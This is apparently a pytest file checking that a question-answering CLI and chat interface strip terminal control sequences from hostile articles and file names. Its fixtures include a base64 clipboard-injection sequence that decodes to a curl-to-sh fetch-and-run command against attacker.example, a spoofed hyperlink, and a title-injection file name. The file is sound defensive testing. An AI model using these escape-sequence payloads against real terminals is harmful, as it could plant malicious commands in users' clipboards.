"""Hostile articles and file names: no control character from them reaches the terminal, in the CLI's text and
JSON output, its messages, or the chat (screen, article viewer, clipboard, saved transcript); displayable
characters (NBSP, soft hyphen, zero-width joiner) stay exactly as they are."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from textual.app import App
from textual.drivers.headless_driver import HeadlessDriver

from qa.ask import Engine
from qa.text.display import displayable, displayable_record, json_escaped
from qa.types import Passage
from tests.chat_support import ask
from tests.reliability_support import run
from tui.factory import make_app
from tui.widgets.passage_card import PassageCard

CLIPBOARD_ATTACK = "\x1b]52;c;Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94LnNoIHwgc2g=\x1b\\"
LINK_ATTACK = "\x1b]8;;http://attacker.example/\x07outside\x1b]8;;\x07"
FILLER = "The council met again on Tuesday and the mayor said repairs would take weeks. " * 30
HOSTILE = (f"Harbour closes\n\nThe harbour closed on Monday{CLIPBOARD_ATTACK} after a storm, officials said. "
           f"Ships waited {LINK_ATTACK} the port\x9b2J for days.\x1b[2J Crowds\u00a0gathered\x07 for the "
           "co\u00adoperation of the zero\u200dwidth joiners.\n\n" + FILLER + "\n")
EVIL_NAME = "harbour\x1b]0;pwned\x07.txt"
QUESTION = "Why did the harbour close on Monday?"
ARTICLE_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
PAYLOADS = ("\x1b]52;c;Y3Vyb", "\x1b]8;;http://attacker", "\x9b", "\x1b]0;pwned", "\x1b[2J Crowds")

pytestmark = pytest.mark.anyio


def rendered(app: App[None]) -> str:
    """What the terminal receives for the whole current screen: text with its escape sequences."""
    return app.screen._compositor.render_full_update().render_segments(app.console)


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
def hostile_index(seed_index: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "articles"
    corpus.mkdir()
    (corpus / EVIL_NAME).write_text(HOSTILE, encoding="utf-8")
    (corpus / "calm.txt").write_text("Bridge repairs\n\nThe bridge was repaired in May. Traffic returned.\n",
                                     encoding="utf-8")
    index_dir = root / "vectors"
    done = run(["index", str(corpus), "--index", str(index_dir)], cwd=root)
    assert done.returncode == 0, done.stderr
    return index_dir


def test_displayable_keeps_offsets_and_displayable_characters() -> None:
    safe = displayable(HOSTILE)
    assert len(safe) == len(HOSTILE)
    assert not ARTICLE_CONTROLS.search(safe)
    assert "\u00a0" in safe and "\u00ad" in safe and "\u200d" in safe
    assert displayable("a\r\nb\rc") == "a\r\nb\ufffdc"
    assert json.loads(json_escaped(json.dumps({"t": "\x9b\x7f"}, ensure_ascii=False))) == {"t": "\x9b\x7f"}
    passage = Passage(1, EVIL_NAME, 0, 5, 1, 1.0, "\x1b[2J", also_in=("x\x9by",))
    assert displayable_record(passage) == Passage(1, displayable(EVIL_NAME), 0, 5, 1, 1.0, "\ufffd[2J",
                                                  also_in=("x\ufffdy",))


def test_cli_text_and_json_carry_no_control_character(hostile_index: Path) -> None:
    where = hostile_index.parent
    text = run(["ask", QUESTION, "--index", str(hostile_index), "-k", "2"], cwd=where)
    assert text.returncode == 0, text.stderr
    assert "harbour closed on Monday" in text.stdout and "Crowds\u00a0gathered" in text.stdout
    assert "co\u00adoperation" in text.stdout and "zero\u200dwidth" in text.stdout
    assert not ARTICLE_CONTROLS.search(text.stdout + text.stderr)
    as_json = run(["ask", QUESTION, "--json", "--index", str(hostile_index), "-k", "2"], cwd=where)
    assert as_json.returncode == 0, as_json.stderr
    assert not ARTICLE_CONTROLS.search(as_json.stdout)
    payload = json.loads(as_json.stdout)
    hostile = [p for p in payload["passages"] if p["source"].endswith(EVIL_NAME)]
    assert hostile and "\x9b2J" in hostile[0]["text"]  # exact in JSON, escaped on the wire
    file_text = (where / "articles" / EVIL_NAME).read_text(encoding="utf-8")
    assert file_text[hostile[0]["start"]:hostile[0]["end"]] == hostile[0]["text"]


async def test_the_chat_never_writes_an_article_control_sequence(hostile_index: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    written: list[str] = []
    monkeypatch.setattr(HeadlessDriver, "write", lambda self, data: written.append(data))
    monkeypatch.chdir(hostile_index.parent)
    app = make_app(hostile_index, Engine.open(hostile_index), save_dir=tmp_path)
    async with app.run_test(size=(100, 40)) as pilot:
        await ask(pilot, QUESTION)
        result = app.results()[0]
        assert result.answer is not None and not ARTICLE_CONTROLS.search(json.dumps(result.as_json()))
        card = next(c for c in app.query(PassageCard) if c.opens.source.endswith(EVIL_NAME))
        written.append(rendered(app))
        card.focus()
        await pilot.press("enter")
        await pilot.pause()
        written.append(rendered(app))
        await pilot.press("escape")
        await pilot.press("ctrl+y")
        await pilot.press("ctrl+s")
        await pilot.pause()
        assert not ARTICLE_CONTROLS.search(app.clipboard)
        assert app.last_saved is not None
        assert not ARTICLE_CONTROLS.search(app.last_saved.read_text(encoding="utf-8"))
    screen = "".join(written)
    assert "harbour closed on Monday" in screen
    assert [p for p in PAYLOADS if p in screen] == []
